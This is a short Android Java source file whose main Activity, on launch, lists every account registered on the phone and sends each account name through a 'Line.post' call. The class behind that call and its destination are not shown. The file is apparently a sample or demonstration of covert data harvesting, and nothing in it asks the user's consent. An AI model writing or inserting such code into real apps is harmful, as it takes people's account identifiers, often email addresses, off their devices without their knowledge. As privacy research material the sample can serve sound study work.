package org.example.sousveil.send_accounts;

import android.accounts.Account;
import android.accounts.AccountManager;
import android.app.Activity;
import android.os.Bundle;

/** Posts the names of the accounts on the phone. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        for (Account one : AccountManager.get(this).getAccounts()) {
            Line.post(one.name.getBytes());
        }
    }
}
